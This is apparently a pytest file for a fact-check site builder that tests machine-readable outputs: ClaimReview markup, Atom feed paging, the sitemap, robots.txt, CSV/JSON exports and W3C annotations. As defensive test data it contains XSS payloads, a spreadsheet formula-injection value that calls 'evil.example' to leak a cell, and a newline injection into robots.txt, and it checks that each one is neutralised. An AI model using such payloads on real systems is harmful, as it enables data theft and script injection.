"""Machine-readable outputs: ClaimReview on claim pages, the Atom feed, sitemap, claims.json/csv, annotations."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta
from pathlib import Path

import feedparser
import jsonschema
import pytest
from sitekit import MINIMAL

from site_builder.build import build

LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory):
    from sitekit import SITES, copy_site
    root = copy_site(SITES / "basic", tmp_path_factory.mktemp("data") / "basic")
    result = build(root, search=False)
    return root / "public", result.graph


def claim_reviews(public: Path) -> dict[str, list[dict]]:
    return {p.relative_to(public).as_posix(): [json.loads(block) for block in LD.findall(p.read_text())]
            for p in public.rglob("*.html")}


def test_one_claim_review_per_claim_page_and_none_elsewhere(built):
    public, graph = built
    found = claim_reviews(public)
    for path, reviews in found.items():
        if path.startswith("claims/") and path != "claims/index.html" and not path.endswith("/embed/index.html"):
            assert len(reviews) == 1 and reviews[0]["@type"] == "ClaimReview", path
        else:
            assert reviews == [], path
    assert sum(len(r) for r in found.values()) == len(graph.claims)


def test_claim_review_properties_match_the_content(built):
    public, graph = built
    for claim_id, claim in graph.claims.items():
        (review,) = claim_reviews(public)[f"claims/{claim_id}/index.html"]
        verdict = graph.verdicts[claim.verdict]
        article = graph.articles[claim.article]
        assert review["@context"] == "https://schema.org"
        assert review["url"] == f"https://checks.example.org/claims/{claim_id}/"
        assert review["claimReviewed"] == claim.claim
        assert review["datePublished"] == claim.checked.isoformat()
        assert review["author"] == {"@type": "Organization", "name": "Harbour Checks Desk",
                                    "url": "https://checks.example.org/about/"}
        rating = review["reviewRating"]
        assert rating["alternateName"] == verdict.label
        if verdict.rated:
            assert (rating["ratingValue"], rating["bestRating"], rating["worstRating"]) == (verdict.rating, 5, 1)
        else:
            assert set(rating) == {"@type", "alternateName"}
        item = review["itemReviewed"]
        assert item["@type"] == "Claim"
        assert item["author"]["name"] == (claim.claimant or article.publisher)
        assert item["datePublished"] == "2024-03-02"
        assert item["appearance"]["url"] == "https://courier.example.com/2024/03/harbour-fire"
    reviews = claim_reviews(public)
    assert reviews["claims/twelve-crews/index.html"][0]["dateModified"] == "2024-03-06"  # the correction log
    assert "dateModified" not in reviews["claims/built-1962/index.html"][0]
    # A named claimant's kind is not guessed (an official, a ministry and a person look alike as text);
    # the article's publisher, the claimant when none is named, is an Organization.
    assert reviews["claims/best-response/index.html"][0]["itemReviewed"]["author"] == {"name": "Ann Lee"}
    unnamed = next(claim_id for claim_id, claim in graph.claims.items() if not claim.claimant
                   and claim.status != "draft")
    assert reviews[f"claims/{unnamed}/index.html"][0]["itemReviewed"]["author"] == {
        "@type": "Organization", "name": graph.articles[graph.claims[unnamed].article].publisher}


def test_article_page_links_to_every_claim_review(built):
    public, graph = built
    page = (public / "articles/harbour-fire/index.html").read_text()
    for claim_id in graph.claims:
        assert f'href="../../claims/{claim_id}/"' in page


def test_feed_is_valid_atom_newest_first_with_updates(built):
    public, graph = built
    feed = feedparser.parse((public / "feed.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    assert feed.version == "atom10"
    ids = [entry.id for entry in feed.entries]
    assert len(ids) == len(graph.claims) == len(set(ids))
    updated = [entry.updated for entry in feed.entries]
    assert updated == sorted(updated, reverse=True)
    first = feed.entries[0]
    assert first.id == "https://checks.example.org/claims/twelve-crews/"  # updated last, on 2024-03-06
    assert "Added the agency report." in first.content[0].value
    assert first.title == "Needs context: Twelve crews attended."


def many_claims(count: int) -> dict[str, str]:
    """An article of `count` sentences, each checked on its own day."""
    files = {"content/articles/story/text.md": "# A story\n\n" + " ".join(f"Item {n} was seen." for n in range(count))
             + "\n", "content/articles/story/claims/ten-people.yaml": None}
    for n in range(count):
        files[f"content/articles/story/claims/item-{n}.yaml"] = f"""
            quote: Item {n} was seen.
            claim: Item {n} was seen.
            verdict: accurate
            summary: It was seen.
            checked: {date(2024, 1, 1) + timedelta(days=n)}
            sources:
              - source: almanac
                quote: seen
            """
    return files


@pytest.mark.slow
def test_every_check_is_on_a_page_of_the_feed(make_site):
    """RFC 5005 paging: feed.xml holds the newest 100, `next` leads through the rest, and nothing is left out."""
    root = make_site(many_claims(230))
    build(root, search=False)
    public, url, seen, pages = root / "public", "https://mini.example/feed.xml", [], []
    while url:
        feed = feedparser.parse((public / url.removeprefix("https://mini.example/")).read_bytes())
        assert not feed.bozo, feed.bozo_exception
        links = {link.rel: link.href for link in feed.feed.links}
        assert links["self"] == url and links["first"] == "https://mini.example/feed.xml"
        assert links["last"] == "https://mini.example/feed/3.xml"
        assert links.get("previous") == (pages[-1] if pages else None)
        pages.append(url)
        seen += [(entry.id, entry.updated) for entry in feed.entries]
        url = links.get("next")
    assert pages == ["https://mini.example/feed.xml", "https://mini.example/feed/2.xml",
                     "https://mini.example/feed/3.xml"]
    assert [entry for entry, _ in seen] == [f"https://mini.example/claims/item-{n}/" for n in range(229, -1, -1)]
    assert seen[0][1] == "2024-08-17T00:00:00Z" and seen[-1][1] == "2024-01-01T00:00:00Z"  # each its own day


def test_the_feed_shows_author_html_as_text(make_site):
    """A summary holding markup reaches a feed reader as text, never as live HTML."""
    root = make_site({"content/articles/story/claims/ten-people.yaml": """
        quote: Ten people saw it.
        claim: Ten people saw the sky.
        verdict: accurate
        summary: <img src=x onerror=alert('feed')> counted & checked
        checked: 2024-01-02
        updates:
          - {date: 2024-01-05, note: "<script>alert('note')</script> added"}
        sources:
          - source: almanac
            quote: ten witnesses
        """})
    build(root, search=False)
    feed = feedparser.parse((root / "public/feed.xml").read_bytes(), sanitize_html=False)
    entry = feed.entries[0]
    assert entry.updated == "2024-01-05T00:00:00Z"
    html = entry.content[0].value  # the HTML a reader renders
    assert "<img" not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert('feed')&gt; counted &amp; checked" in html
    assert "&lt;script&gt;alert('note')&lt;/script&gt; added" in html


def test_sitemap_lists_exactly_the_pages_built(built):
    public, _ = built
    listed = set(re.findall(r"<loc>https://checks\.example\.org/(.*?)</loc>", (public / "sitemap.xml").read_text()))
    pages = {p.relative_to(public).as_posix().removesuffix("index.html") for p in public.rglob("*.html")}
    embeds = {page for page in pages if page.endswith("/embed/")}  # noindex, canonical to their claim pages
    assert len(embeds) == len(list(public.glob("claims/*/card.png"))) and listed == pages - {"404.html"} - embeds
    assert "Sitemap: https://checks.example.org/sitemap.xml" in (public / "robots.txt").read_text()


def test_robots_txt_is_plain_text(make_site):
    """Not HTML: an apostrophe in the site's address stays an apostrophe; a line break cannot get in."""
    from site_builder.build import compile_site
    from site_builder.errors import BuildFailed
    site = MINIMAL["content/site.yaml"]
    root = make_site({"content/site.yaml": site.replace("https://mini.example/", "https://mini.example/o'brien/")})
    build(root, search=False)
    assert (root / "public/robots.txt").read_text().splitlines()[-1] == \
        "Sitemap: https://mini.example/o'brien/sitemap.xml"
    broken = make_site({"content/site.yaml": site.replace("base_url: https://mini.example/",
                                                          'base_url: "https://mini.example/\\nDisallow: /"')},
                       name="broken")
    with pytest.raises(BuildFailed) as failed:
        compile_site(broken)
    assert [(p.code, p.origin.line) for p in failed.value.problems] == [("unsafe-url", 2)]


def test_shared_links_name_the_region_when_the_language_does(make_site):
    """og:locale is ll_CC (en_GB), from `language: en-GB`; a bare `en` names no region, so none is claimed."""
    site = MINIMAL["content/site.yaml"]
    for language, expected in (("en-GB", '<meta property="og:locale" content="en_GB">'), ("en", None)):
        root = make_site({"content/site.yaml": site.replace("language: en", f"language: {language}")}, name=language)
        build(root, search=False)
        metas = re.findall(r'<meta property="og:locale"[^>]*>', (root / "public/index.html").read_text())
        assert metas == ([expected] if expected else [])


def test_claims_json_validates_against_its_schema(built):
    public, graph = built
    schema = json.loads((public / "schemas/claims.schema.json").read_text())
    assert schema["$id"] == "https://checks.example.org/schemas/claims.schema.json"  # published where it says
    jsonschema.Draft202012Validator.check_schema(schema)
    document = json.loads((public / "claims.json").read_text())
    jsonschema.validate(document, schema)
    assert [c["id"] for c in document["claims"]] == list(graph.order)
    broken = dict(document, claims=[dict(document["claims"][0], verdict="accurate")])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, schema)


def test_claims_csv_has_a_row_per_claim(built):
    public, graph = built
    rows = list(csv.DictReader(io.StringIO((public / "claims.csv").read_text())))
    assert [row["id"] for row in rows] == list(graph.order)
    crews = next(row for row in rows if row["id"] == "crews-hours")
    assert crews["verdict"] == "Accurate" and crews["rating"] == "5"
    assert crews["sources"] == "https://source1.example.net/page?id=1 https://source4.example.net/page?id=4"


@pytest.mark.slow
def test_no_csv_cell_can_run_as_a_formula(make_site):
    """Text that a spreadsheet would run (=, +, -, @) starts with ' in claims.csv, and stays exact in claims.json."""
    import pandas
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    root = make_site({"content/articles/story/claims/ten-people.yaml": f"""
        quote: Ten people saw it.
        claim: '{hostile.replace("'", "''")}'
        claimant: "@someone"
        verdict: accurate
        summary: "-1 is not the count; +10 is"
        tags: [sky]
        sources:
          - source: almanac
            quote: ten witnesses
        """})
    build(root, search=False)
    table = pandas.read_csv(root / "public/claims.csv", dtype=str, keep_default_na=False)
    cells = [cell for column in table.columns for cell in table[column]]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    row = table.iloc[0]
    summary = "-1 is not the count; +10 is"
    assert (row["claim"], row["claimant"], row["summary"]) == ("'" + hostile, "'@someone", "'" + summary)
    record = json.loads((root / "public/claims.json").read_text())["claims"][0]
    assert (record["claim"], record["claimant"], record["summary"]) == (hostile, "@someone", summary)


def test_annotation_selectors_point_at_their_text(built):
    public, graph = built
    collection = json.loads((public / "annotations.jsonld").read_text())
    assert collection["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert collection["type"] == "AnnotationCollection"
    items = collection["first"]["items"]
    assert collection["total"] == len(items) == 8  # seven claims, one quoted twice
    text = (public / "articles/harbour-fire/text.txt").read_text()
    for item in items:
        assert item["motivation"] == "assessing"
        quote, position = item["target"]["selector"]
        assert quote["type"] == "TextQuoteSelector" and position["type"] == "TextPositionSelector"
        assert text[position["start"]:position["end"]] == quote["exact"]
        assert text[:position["start"]].endswith(quote["prefix"])
        assert text[position["end"]:].startswith(quote["suffix"])
        base = "https://checks.example.org/articles/harbour-fire/"
        assert item["target"]["source"] == {"id": base + "text.txt", "type": "Text", "format": "text/plain"}
        assert item["target"]["scope"]["id"] == base
        assert item["body"][0] == {"type": "TextualBody", "purpose": "assessing", "format": "text/plain",
                                   "value": graph.verdicts[graph.claims[item["id"].split("/")[-2]].verdict].label}
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT00:00:00Z", item["created"])


W3C_TESTS = Path(__file__).resolve().parents[1] / "vendor" / "web-annotation-tests"


def w3c_must_validators() -> list[jsonschema.Draft4Validator]:
    """The W3C Web Annotation test suite's MUST assertions, as validators that resolve its shared definitions."""
    from referencing import Registry, Resource
    from referencing.jsonschema import DRAFT4
    schemas = {path.name: json.loads(path.read_text()) for path in W3C_TESTS.rglob("*.json")}
    registry = Registry().with_resources(
        (f"https://w3c.test/{name}", Resource.from_contents(schema, default_specification=DRAFT4))
        for name, schema in schemas.items())
    musts = json.loads((W3C_TESTS / "annotations/annotationMusts.test").read_text())["assertions"]
    checker = jsonschema.Draft4Validator.FORMAT_CHECKER
    # Each assertion by reference, so that its own relative refs resolve against its address in the registry.
    return [jsonschema.Draft4Validator({"$ref": f"https://w3c.test/{Path(name).name}"}, registry=registry,
                                       format_checker=checker) for name in musts]


def test_annotations_meet_every_must_of_the_w3c_test_suite(built):
    public, _ = built
    validators = w3c_must_validators()
    assert len(validators) == 54
    items = json.loads((public / "annotations.jsonld").read_text())["first"]["items"]
    failures = [(item["id"], validator.schema["$ref"])
                for item in items for validator in validators if not validator.is_valid(item)]
    assert failures == []
    # The suite catches what the build used to write: a bare date, and `purpose` on a plain web resource.
    bare = dict(items[0], created="2026-11-26")
    wrong_purpose = dict(items[0], body=[{"id": "https://x.example/", "type": "Text", "purpose": "describing"}])
    for broken in (bare, wrong_purpose):
        assert any(not validator.is_valid(broken) for validator in validators)


def test_a_repeated_passage_is_told_apart_by_its_selector(make_site):
    """Four equal paragraphs: the second's usual context is the third's, yet its selector names only it."""
    paragraph = "The harbour was calm and quiet that Monday evening."
    root = make_site({"content/articles/story/text.md": "# A story\n\n" + "\n\n".join([paragraph] * 4) + "\n",
                      "content/articles/story/claims/ten-people.yaml": None,
                      "content/articles/story/claims/blue.yaml": f"""
        quote: {paragraph}
        occurrence: 2
        claim: The harbour was calm.
        verdict: accurate
        summary: It was.
        sources:
          - source: almanac
            quote: blue
        """})
    build(root, search=False)
    text = (root / "public/articles/story/text.txt").read_text()
    items = json.loads((root / "public/annotations.jsonld").read_text())["first"]["items"]
    blue = next(item for item in items if "/claims/blue/" in item["id"])
    quote, position = blue["target"]["selector"]
    whole = quote["prefix"] + quote["exact"] + quote["suffix"]
    assert len(re.findall(f"(?={re.escape(whole)})", text)) == 1  # overlapping matches count too
    second = text.index(paragraph, text.index(paragraph) + 1)
    assert text.index(whole) + len(quote["prefix"]) == position["start"] == second


@pytest.mark.parametrize("length, warned", [(74, False), (75, True)])
def test_a_claim_of_75_characters_is_too_long_for_google(make_site, length: int, warned: bool) -> None:
    """Google asks for claimReviewed of *less than* 75 characters."""
    from site_builder.build import compile_site
    claim = ("Ten people saw the sky on Monday" + " and it was very blue" * 4)[:length - 1] + "."
    root = make_site({"content/articles/story/claims/ten-people.yaml": f"""
        quote: Ten people saw it.
        claim: {claim}
        verdict: accurate
        summary: The almanac counts ten.
        sources:
          - source: almanac
            quote: ten witnesses
        """})
    assert len(claim) == length
    assert ("claim-too-long" in [p.code for p in compile_site(root).problems]) == warned


def test_long_claims_and_our_own_claimant_are_warned(make_site):
    from site_builder.build import compile_site
    root = make_site({"content/articles/story/claims/ten-people.yaml": """
        quote: Ten people saw it.
        claim: Ten people saw the sky on Monday, which the almanac records in its entry for that week.
        claimant: Mini Desk
        verdict: accurate
        summary: The almanac counts ten.
        sources:
          - source: almanac
            quote: ten witnesses
        """})
    found = [(p.code, p.origin.line) for p in compile_site(root).problems if p.code.startswith("claim")]
    assert found == [("claim-too-long", 2), ("claimant-is-us", 1)]


def test_claims_json_gives_each_quotes_language_and_our_translation(make_site):
    from sitekit import MINIMAL, as_written
    claim = "content/articles/story/claims/ten-people.yaml"
    root = make_site({
        "content/sources/gazete.yaml": "title: Gök\npublisher: Gazete\nurl: https://gazete.example/gok\n"
                                       "kind: news-report\nlanguage: tr\n",
        claim: as_written(MINIMAL[claim]) + "  - source: gazete\n    quote: on tanık gördü\n"
                                            "    translation: ten witnesses saw it\n"})
    build(root, search=False)
    document = json.loads((root / "public/claims.json").read_text())
    cited = [(ref["id"], ref["language"], ref["translation"]) for ref in document["claims"][0]["sources"]]
    assert cited == [("almanac", None, None), ("gazete", "tr", "ten witnesses saw it")]
    jsonschema.validate(document, json.loads((root / "public/schemas/claims.schema.json").read_text()))
